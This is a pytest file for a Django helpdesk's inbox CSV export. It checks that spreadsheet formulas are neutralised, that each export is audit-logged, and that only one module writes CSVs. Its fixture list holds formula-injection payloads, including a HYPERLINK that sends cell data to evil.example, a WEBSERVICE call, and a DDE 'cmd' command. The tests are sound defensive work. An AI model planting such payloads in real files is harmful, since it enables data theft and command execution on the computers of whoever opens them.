"""The inbox CSV export: formulas neutralised in every cell, each export audited."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from hamdel.audit.models import Event
from hamdel.lib.csv_export import safe_cell
from hamdel.test import PASSWORD, Cast, make_conversation, make_customer
from hamdel.tickets.actions import set_tags
from hamdel.tickets.models import Conversation

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\u202b=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b\u202e@x",
    "\uff1d1+1",
]


def _export(client: Client) -> list[list[str]]:
    response = client.get("/inbox/export.csv?view=all")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
def test_no_exported_cell_starts_a_formula(cast: Cast) -> None:
    for text in HOSTILE:
        customer = make_customer(text)
        conversation = make_conversation(customer, subject=text, team=cast.support)
        set_tags(conversation, ["=1+1"], None)
    client = Client()
    assert client.login(username="alice", password=PASSWORD)
    header, *rows = _export(client)
    assert len(rows) == len(HOSTILE)
    subjects = {row[header.index("subject")] for row in rows}
    stored = Conversation.objects.values_list("subject", flat=True)  # as stripped on arrival
    assert subjects == {"'" + subject for subject in stored}
    for row in rows:
        for cell in row:
            assert safe_cell(cell) == cell or cell.startswith("'"), cell
        assert row[header.index("tags")] == "'=1+1"


def test_harmless_cells_and_numbers_are_written_as_they_are() -> None:
    assert safe_cell("Order late") == "Order late"
    assert safe_cell("سفارش") == "سفارش"
    assert safe_cell(-5) == -5
    assert safe_cell("") == ""
    assert safe_cell("2026-01-01T00:00:00+00:00") == "2026-01-01T00:00:00+00:00"


@pytest.mark.django_db
def test_each_export_is_recorded_with_who_which_list_and_how_many_rows(cast: Cast) -> None:
    make_conversation(cast.customer, team=cast.support)
    make_conversation(cast.customer, team=cast.billing)
    client = Client()
    assert client.login(username="alice", password=PASSWORD)
    _export(client)
    event = Event.objects.get(verb="export.csv")
    assert event.actor == cast.alice.user
    assert event.data == {"list": "inbox:all", "query": "view=all", "rows": 1}


def test_every_csv_the_product_writes_goes_through_the_one_writer() -> None:
    package = Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and re.search(
            r"\bcsv\.(writer|DictWriter)\b|from csv import .*\b(writer|DictWriter)\b",
            path.read_text(),
        )
    ]  # reading a CSV (the value app's order import) is not writing one
    assert writers == ["lib/csv_export.py"]
